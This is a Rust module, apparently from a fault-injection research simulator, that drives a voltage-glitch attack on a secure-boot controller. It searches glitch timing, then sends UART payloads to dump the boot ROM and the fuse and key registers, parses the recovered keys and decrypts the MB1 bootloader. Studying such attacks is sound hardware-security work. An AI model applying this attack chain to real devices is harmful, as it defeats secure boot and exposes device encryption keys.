//! End-to-end procedures behind the command-line tool.

use crate::boot::{uart_download, KEY_BLOB_ADDR};
use crate::campaign::{
    attempt_seed, log_attempts, run_campaign, stats_from_attempts, write_jsonl, Attempt, BootTarget, CampaignError, CampaignHeader,
    CampaignResult, CampaignStats, LogRecord,
};
use crate::config::{CampaignConfig, FeasibilitySection};
use crate::crypto::{CryptoEngine, CryptoError, Fek2Select, FekSource, Key, KEY_BLOB_BYTES};
use crate::device::{DeviceBundle, DeviceError};
use crate::fixtures::{run_fixture, FixtureName, Trigger};
use crate::machine::{map, FaultModel, MachineState};
use crate::oracle::OracleReport;
use crate::payload::{build_dump_payload, build_multi_dump_payload, PayloadError};
use crate::rail::{GlitchPulse, RailConfig};
use crate::rig::Fire;
use crate::search::estimate_full_pass;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::path::Path;
use thiserror::Error;

#[derive(Debug, Error)]
pub enum PipelineError {
    #[error(transparent)]
    Campaign(#[from] CampaignError),
    #[error(transparent)]
    Device(#[from] DeviceError),
    #[error(transparent)]
    Payload(#[from] PayloadError),
    #[error(transparent)]
    Crypto(#[from] CryptoError),
    #[error("replaying the successful attempt did not reach the prompt")]
    ReplayFailed,
    #[error("payload {0} did not run to completion: {1}")]
    PayloadFailed(&'static str, String),
    #[error("writing {path}")]
    Io {
        path: String,
        #[source]
        source: std::io::Error,
    },
}

fn write_file(dir: &Path, name: &str, bytes: &[u8]) -> Result<(), PipelineError> {
    let path = dir.join(name);
    fs::write(&path, bytes).map_err(|source| PipelineError::Io {
        path: path.display().to_string(),
        source,
    })
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct LengthRow {
    pub length_ns: u64,
    pub trials: u32,
    /// Trials in which at least one emitted sum was wrong.
    pub corrupted: u32,
    pub crashed: u32,
    pub detected: u32,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct FeasibilityReport {
    pub rows: Vec<LengthRow>,
    pub min_corrupting_ns: Option<u64>,
    pub min_crashing_ns: Option<u64>,
}

/// Sweeps pulse length against the add loop.
pub fn feasibility(rail: &RailConfig, model: &FaultModel, sweep: &FeasibilitySection, seed: u64) -> FeasibilityReport {
    let mut rows = Vec::new();
    let mut len = sweep.min_length_ns;
    let mut trial_index = 0u64;
    while len <= sweep.max_length_ns {
        let mut row = LengthRow {
            length_ns: len,
            trials: sweep.trials,
            corrupted: 0,
            crashed: 0,
            detected: 0,
        };
        let pulse = GlitchPulse::new(sweep.offset_ns, len);
        for _ in 0..sweep.trials {
            let r = run_fixture(
                FixtureName::AddLoop,
                Some(&pulse),
                rail,
                attempt_seed(seed, 0, trial_index),
                model,
                Trigger::Reset,
            );
            trial_index += 1;
            row.corrupted += u32::from(r.corrupted_sums > 0);
            row.crashed += u32::from(r.state == MachineState::Crashed);
            row.detected += u32::from(r.state == MachineState::DetectShutdown);
        }
        rows.push(row);
        len += sweep.step_ns;
    }
    FeasibilityReport {
        min_corrupting_ns: rows.iter().find(|r| r.corrupted > 0).map(|r| r.length_ns),
        min_crashing_ns: rows.iter().find(|r| r.crashed > 0).map(|r| r.length_ns),
        rows,
    }
}

fn us(ns: u64) -> String {
    format!("{:.2} us", ns as f64 / 1000.0)
}

impl FeasibilityReport {
    pub fn render(&self) -> String {
        let mut s = String::from("length      trials  corrupted  crashed  detected\n");
        for r in &self.rows {
            let _ = writeln!(
                s,
                "{:>10}  {:>6}  {:>9}  {:>7}  {:>8}",
                us(r.length_ns),
                r.trials,
                r.corrupted,
                r.crashed,
                r.detected
            );
        }
        let opt = |v: Option<u64>| v.map_or("none".to_string(), us);
        let _ = writeln!(s, "minimal corrupting length: {}", opt(self.min_corrupting_ns));
        let _ = writeln!(s, "minimal crashing length:   {}", opt(self.min_crashing_ns));
        s
    }
}

/// Key material recovered from the controller's fuse and FEK registers.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct CapturedKeys {
    #[serde(with = "hex_key")]
    pub nvkey: Key,
    #[serde(with = "hex_key")]
    pub testkey: Key,
    pub fek2_select: Fek2Select,
    pub odm_secure_boot: bool,
}

mod hex_key {
    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(k: &[u8; 16], s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&hex::encode(k))
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<[u8; 16], D::Error> {
        let v = hex::decode(String::deserialize(d)?).map_err(serde::de::Error::custom)?;
        v.try_into().map_err(|_| serde::de::Error::custom("key must be 16 bytes"))
    }
}

/// Registers read by the key-dump payload, in dump order.
pub const FEK_DUMP_RANGES: [(u32, u32); 2] = [(map::MISC_NVKEY, 0x20), (map::FUSE_BASE, map::FUSE_SIZE)];

impl CapturedKeys {
    pub fn parse(dump: &[u8]) -> Option<CapturedKeys> {
        let fuse = 0x20usize;
        if dump.len() < fuse + map::FUSE_SIZE as usize {
            return None;
        }
        let word = |off: u32| u32::from_le_bytes(dump[fuse + off as usize..][..4].try_into().unwrap());
        Some(CapturedKeys {
            nvkey: dump[..16].try_into().unwrap(),
            testkey: dump[16..32].try_into().unwrap(),
            fek2_select: if word(map::FUSE_FEK2_SELECT - map::FUSE_BASE) != 0 {
                Fek2Select::Testkey
            } else {
                Fek2Select::Nvkey
            },
            odm_secure_boot: word(map::FUSE_ODM_ENABLE - map::FUSE_BASE) != 0,
        })
    }
}

/// Decrypts an MB1 image with keys an attacker recovered: FEKs from the
/// register dump and the key blob from the ROM dump.
pub fn decrypt_captured_mb1(keys: &CapturedKeys, irom_dump: &[u8], mb1_enc: &[u8]) -> Result<Vec<u8>, CryptoError> {
    let mut engine = CryptoEngine::new();
    engine.load_feks(&FekSource {
        nvkey: keys.nvkey,
        testkey: keys.testkey,
        fek2_select: keys.fek2_select,
    })?;
    let at = (KEY_BLOB_ADDR - map::IROM_BASE) as usize;
    let blob = irom_dump
        .get(at..at + KEY_BLOB_BYTES)
        .ok_or(CryptoError::NotBlockAligned(irom_dump.len()))?;
    engine.decrypt_key_blob(blob)?;
    if keys.odm_secure_boot {
        engine.derive_odm_key()?;
    }
    Ok(engine.decrypt_mb1(mb1_enc, keys.odm_secure_boot)?.plaintext)
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Exploit {
    pub attempt: Attempt,
    pub dump_payload: Vec<u8>,
    pub fek_payload: Vec<u8>,
    pub irom_dump: Vec<u8>,
    pub fek_dump: Vec<u8>,
    pub keys: CapturedKeys,
    pub mb1_decrypted: Vec<u8>,
    pub irom_matches: bool,
    pub mb1_matches: bool,
}

#[derive(Clone, Debug, PartialEq)]
pub struct AttackOutcome {
    pub campaign: CampaignResult,
    pub exploit: Option<Exploit>,
}

impl AttackOutcome {
    pub fn succeeded(&self) -> bool {
        self.exploit.as_ref().is_some_and(|e| e.irom_matches && e.mb1_matches)
    }
}

/// Re-creates the glitch of a logged attempt and sends `payload` to the
/// loader it opened. Returns the UART bytes the payload produced.
fn exploit_once(target: &BootTarget, attempt: &Attempt, payload: &[u8], what: &'static str) -> Result<Vec<u8>, PipelineError> {
    let fire = Fire {
        trigger_ns: 0,
        pulse: attempt.pulse(),
        jitter_ns: attempt.jitter_ns,
    };
    let (mut m, _, _) = target.run(&fire, attempt.seed);
    if m.state != MachineState::Download {
        return Err(PipelineError::ReplayFailed);
    }
    let r = uart_download(&mut m, payload).map_err(|e| PipelineError::PayloadFailed(what, e.to_string()))?;
    if let Some(e) = r.rejected {
        return Err(PipelineError::PayloadFailed(what, e.to_string()));
    }
    if r.state != MachineState::Halted {
        return Err(PipelineError::PayloadFailed(
            what,
            format!("ended {:?}, trap {:?}", r.state, r.trap),
        ));
    }
    Ok(r.uart)
}

/// Search for the glitch, then dump the ROM and the key registers through
/// the loader, and decrypt MB1 with what was captured.
pub fn attack(cfg: &CampaignConfig, bundle: &DeviceBundle, resume: Option<&[LogRecord]>) -> Result<AttackOutcome, PipelineError> {
    let header = cfg.header();
    let make = |_| {
        BootTarget::new(
            &bundle.image,
            &bundle.personality,
            cfg.rail.clone(),
            cfg.fault_model,
            cfg.rig,
            &cfg.budget,
        )
    };
    let campaign = run_campaign(&header, make, resume)?;
    let Some(hit) = campaign.first_success().cloned() else {
        return Ok(AttackOutcome { campaign, exploit: None });
    };
    let target = make(hit.worker);
    let dump_payload = build_dump_payload(map::IROM_BASE, map::IROM_SIZE, map::UART_TX)?.to_bytes();
    let fek_payload = build_multi_dump_payload(&FEK_DUMP_RANGES, map::UART_TX)?.to_bytes();
    let irom_dump = exploit_once(&target, &hit, &dump_payload, "rom dump")?;
    let fek_dump = exploit_once(&target, &hit, &fek_payload, "key dump")?;
    let keys = CapturedKeys::parse(&fek_dump).ok_or_else(|| PipelineError::PayloadFailed("key dump", "short output".into()))?;
    let mb1_decrypted = decrypt_captured_mb1(&keys, &irom_dump, bundle.mb1_enc())?;
    Ok(AttackOutcome {
        exploit: Some(Exploit {
            irom_matches: irom_dump == *bundle.image.irom,
            mb1_matches: mb1_decrypted == bundle.mb1_plain,
            attempt: hit,
            dump_payload,
            fek_payload,
            irom_dump,
            fek_dump,
            keys,
            mb1_decrypted,
        }),
        campaign,
    })
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct AttackSummary {
    pub stats: CampaignStats,
    pub success: Option<Attempt>,
    pub keys: Option<CapturedKeys>,
    pub irom_matches: bool,
    pub mb1_matches: bool,
}

impl AttackOutcome {
    pub fn summary(&self) -> AttackSummary {
        let e = self.exploit.as_ref();
        AttackSummary {
            stats: self.campaign.stats.clone(),
            success: e.map(|e| e.attempt.clone()),
            keys: e.map(|e| e.keys.clone()),
            irom_matches: e.is_some_and(|e| e.irom_matches),
            mb1_matches: e.is_some_and(|e| e.mb1_matches),
        }
    }

    /// Writes the log, captured artifacts and reports into `dir`.
    pub fn write(&self, dir: &Path) -> Result<(), PipelineError> {
        fs::create_dir_all(dir).map_err(|source| PipelineError::Io {
            path: dir.display().to_string(),
            source,
        })?;
        let mut log = Vec::new();
        write_jsonl(&self.campaign.records, &mut log).expect("writing to memory");
        write_file(dir, "attempts.jsonl", &log)?;
        if let Some(e) = &self.exploit {
            write_file(dir, "dump.payload", &e.dump_payload)?;
            write_file(dir, "fek.payload", &e.fek_payload)?;
            write_file(dir, "irom_dump.bin", &e.irom_dump)?;
            write_file(dir, "fek_dump.bin", &e.fek_dump)?;
            write_file(dir, "mb1.dec.bin", &e.mb1_decrypted)?;
        }
        let json = serde_json::to_vec_pretty(&self.summary()).expect("summary serializes");
        write_file(dir, "report.json", &json)?;
        write_file(dir, "report.txt", self.render().as_bytes())
    }

    pub fn render(&self) -> String {
        let mut s = render_stats(&self.campaign.stats);
        match &self.exploit {
            None => s.push_str("no prompt reached within the budget\n"),
            Some(e) => {
                let a = &e.attempt;
                let _ = writeln!(
                    s,
                    "prompt reached: worker {} attempt {} offset {} ns length {} ns",
                    a.worker, a.index, a.offset_ns, a.length_ns
                );
                let _ = writeln!(s, "captured iROM: {} bytes, matches device: {}", e.irom_dump.len(), e.irom_matches);
                let _ = writeln!(
                    s,
                    "captured FEKs: nvkey {} testkey {}",
                    hex::encode(e.keys.nvkey),
                    hex::encode(e.keys.testkey)
                );
                let _ = writeln!(
                    s,
                    "decrypted MB1: {} bytes, matches device: {}",
                    e.mb1_decrypted.len(),
                    e.mb1_matches
                );
            }
        }
        for w in &self.campaign.workers {
            if let Some(n) = w.searcher.narrowed_after() {
                let g = w.searcher.grid();
                let _ = writeln!(
                    s,
                    "worker {} narrowed after {} attempts to [{}, {}] ns x {:?}",
                    w.worker, n, g.offsets.lo_ns, g.offsets.hi_ns, g.lengths_ns
                );
            }
        }
        s
    }
}

pub fn render_stats(st: &CampaignStats) -> String {
    let mut s = String::new();
    let _ = writeln!(s, "attempts:   {}", st.attempts);
    let _ = writeln!(s, "successes:  {}", st.successes);
    let _ = writeln!(s, "crashes:    {}", st.crashes);
    let _ = writeln!(s, "normal:     {}", st.normals);
    let _ = writeln!(s, "detected:   {}", st.detects);
    let _ = writeln!(s, "hangs:      {}", st.hangs);
    let _ = writeln!(s, "success rate: {:.6}", st.success_rate);
    let _ = writeln!(s, "simulated bench time: {:.3} s", st.sim_time_ns as f64 * 1e-9);
    let _ = writeln!(s, "attempts per simulated second: {:.1}", st.attempts_per_simulated_second);
    match (st.time_to_first_success_ns, st.attempts_to_first_success) {
        (Some(t), Some(n)) => {
            let _ = writeln!(s, "first success after {n} attempts, {:.3} s", t as f64 * 1e-9);
        }
        _ => s.push_str("first success: none\n"),
    }
    s
}

/// Summary of a campaign log: statistics, where successes landed, and how
/// the run compares with a full single-length pass over the grid.
pub fn report(records: &[LogRecord]) -> String {
    let attempts = log_attempts(records);
    let stats = stats_from_attempts(attempts.iter().copied());
    let mut s = render_stats(&stats);
    let mut hist: BTreeMap<u64, u64> = BTreeMap::new();
    const BUCKET_NS: u64 = 10_000;
    for a in attempts.iter().filter(|a| a.success) {
        *hist.entry(a.offset_ns / BUCKET_NS * BUCKET_NS).or_default() += 1;
    }
    if !hist.is_empty() {
        s.push_str("success offsets (10 us buckets):\n");
        for (b, n) in &hist {
            let _ = writeln!(s, "  {:>10} ns  {}", b, "#".repeat(*n as usize));
        }
    }
    if let Some(LogRecord::Header(h)) = records.first() {
        s.push_str(&render_estimate(h, &stats));
    }
    s
}

fn render_estimate(h: &CampaignHeader, stats: &CampaignStats) -> String {
    let o = &h.grid.offsets;
    let mut s = String::new();
    let Ok(e) = estimate_full_pass(o.hi_ns - o.lo_ns, o.step_ns, 1) else {
        return s;
    };
    let _ = writeln!(
        s,
        "single-length pass over [{}, {}] ns: {} offsets, avg attempt {:.3} ms, ≈ {:.2} min single pass ({:.2} days)",
        o.lo_ns,
        o.hi_ns,
        e.num_offsets,
        e.avg_attempt_ns as f64 * 1e-6,
        e.total_minutes(),
        e.total_days()
    );
    if stats.attempts > 0 {
        let avg = stats.sim_time_ns as f64 / stats.attempts as f64;
        let _ = writeln!(
            s,
            "this run: {} attempts, avg attempt {:.3} ms, {:.2} min simulated ({:.1}% of the estimated pass)",
            stats.attempts,
            avg * 1e-6,
            stats.sim_time_ns as f64 * 1e-9 / 60.0,
            100.0 * stats.sim_time_ns as f64 / e.total_ns.max(1) as f64
        );
    }
    s
}

pub fn render_oracle(name: &str, r: &OracleReport) -> String {
    let mut s = format!(
        "{name}: {} placements tried, {} reach the target (golden run reaches it: {})\n",
        r.placements.len(),
        r.hits.len(),
        r.golden_reaches
    );
    for h in &r.hits {
        let line = h.listing_line.or(h.line).map_or("-".to_string(), |l| l.to_string());
        let _ = writeln!(
            s,
            "  #{:<8} {:#010x}  line {:>4}  {:<30} {:?}",
            h.dyn_index, h.pc, line, h.instr, h.effect
        );
    }
    s
}
